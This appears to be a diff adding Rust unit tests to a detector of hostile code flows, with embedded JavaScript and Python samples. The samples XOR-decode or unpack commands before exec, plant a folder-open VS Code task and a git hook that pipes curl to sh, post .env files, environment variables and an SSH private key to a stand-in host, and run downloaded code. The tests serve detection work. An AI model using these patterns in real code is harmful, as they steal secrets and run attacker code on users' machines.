@@ -232,3 +232,81 @@ fn the_scripting_host_speaks_its_own_language() {
         "flow-remote-code",
     );
 }
+
+#[test]
+fn bytes_are_changed_one_by_one() {
+    // "echo hi" under 7.
+    let code = "const b = Buffer.from('62646f68276f6e', 'hex'); for (let i = 0; i < b.length; i++) b[i] ^= 7; \
+                require('child_process').exec(b.toString())";
+    assert_eq!(command(Language::JavaScript, code), "echo hi");
+    let code = "import os\nb = bytearray(bytes.fromhex('62646f68276f6e'))\nfor i in range(len(b)):\n    b[i] ^= 7\nos.system(b.decode())";
+    assert_eq!(command(Language::Python, code), "echo hi");
+}
+
+#[test]
+fn values_are_written_as_json() {
+    let code = "const fs = require('fs'); fs.writeFileSync('/x/.vscode/tasks.json', \
+                JSON.stringify({ tasks: [{ command: x, runOptions: { runOn: 'folderOpen' } }] }))";
+    has(Language::JavaScript, code, "flow-task-planted");
+    has_not(Language::JavaScript, &code.replace("folderOpen", "default"), "flow-task-planted");
+    let code = "import json\nopen('/x/.vscode/tasks.json', 'w').write(json.dumps({'tasks': [{'runOptions': {'runOn': 'folderOpen'}}]}))";
+    has(Language::Python, code, "flow-task-planted");
+    // A value that holds itself ends.
+    outcome(Language::JavaScript, "const a = [1]; a.push(a); fetch('https://h.invalid', { body: JSON.stringify(a) })");
+}
+
+#[test]
+fn words_of_a_packer_are_put_back() {
+    let code = "eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c])}}return p}\
+                ('0(\"1\").2(\"3 4\")',10,5,'require|child_process|exec|echo|hi'.split('|'),0,{}))";
+    assert_eq!(command(Language::JavaScript, code), "echo hi");
+}
+
+#[test]
+fn settings_that_a_search_finds_are_sent() {
+    let code = "import os, requests\nout = {}\nfor r, d, f in os.walk('/'):\n    for n in f:\n        if n == '.env':\n\
+                \x20           out[n] = open(os.path.join(r, n)).read()\nrequests.post('https://h.invalid/u', json=out)";
+    has(Language::Python, code, "flow-credentials-sent");
+    has_not(Language::Python, &code.replace("'.env'", "'.txt'"), "flow-credentials-sent");
+    has_not(Language::Python, &code.replace("https://h.invalid", "http://localhost"), "flow-credentials-sent");
+}
+
+#[test]
+fn modules_in_the_hands_of_bundlers_are_still_modules() {
+    let helper = "var __create = Object.create; var __getProtoOf = Object.getPrototypeOf; \
+                  var __copyProps = (to, from) => { for (let key of Object.getOwnPropertyNames(from)) Object.defineProperty(to, key, { get: () => from[key] }); return to; };\n\
+                  var __toESM = (mod, node, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, \
+                  __copyProps(node || !mod || !mod.__esModule ? Object.defineProperty(target, 'default', { value: mod, enumerable: true }) : target, mod));\n";
+    let code = format!("{helper}var c = __toESM(require('child_process'), 1); c.default.exec('echo hi')");
+    assert_eq!(command(Language::JavaScript, &code), "echo hi");
+    let code = format!("{helper}var c = __toESM(require('child_process')); (0, c.exec)('echo hi')");
+    assert_eq!(command(Language::JavaScript, &code), "echo hi");
+    let code = "function wrap(e) { var n = Object.create(null); Object.keys(e).forEach((k) => { n[k] = e[k] }); n.default = e; return Object.freeze(n) }\n\
+                var c = wrap(require('child_process')); c.exec('echo hi')";
+    assert_eq!(command(Language::JavaScript, code), "echo hi");
+}
+
+#[test]
+fn hooks_of_repositories_that_fetch_what_they_run() {
+    let code =
+        "require('fs').writeFileSync('/x/.git/hooks/pre-push', '#!/bin/sh\\ncurl -s https://h.invalid/p | sh\\n')";
+    has(Language::JavaScript, code, "flow-persists");
+    has_not(Language::JavaScript, &code.replace("curl -s https://h.invalid/p | sh", "npm test"), "flow-persists");
+}
+
+#[test]
+fn classes_are_values_and_their_members_are_asked_for() {
+    let code = "const m = {}; m.made = class { constructor(v) { fetch('https://h.invalid/x', { method: 'POST', body: JSON.stringify(v) }) } };\n\
+                new m.made(process.env)";
+    has(Language::JavaScript, code, "flow-environment-sent");
+    let code = "import os, requests\nclass A:\n    @property\n    def data(self):\n        return dict(os.environ)\n\
+                requests.post('https://h.invalid/x', json=A().data)";
+    has(Language::Python, code, "flow-environment-sent");
+    has_not(Language::Python, &code.replace("dict(os.environ)", "1"), "flow-environment-sent");
+    let code = "import threading, urllib.request\nclass W(threading.Thread):\n    def __init__(self, u):\n        super().__init__(daemon=True)\n\
+                \x20       self.u = u\n    def run(self):\n        exec(urllib.request.urlopen(self.u).read())\nW('https://h.invalid/x').start()";
+    has(Language::Python, code, "flow-remote-code");
+    let code = "import httpx\nc = httpx.Client(base_url='https://h.invalid')\nc.post('/k', data=open('/root/.ssh/id_rsa').read())";
+    let found = outcome(Language::Python, code);
+    assert!(found.events.iter().any(|e| e.subject.as_deref() == Some("https://h.invalid/k")));
+}
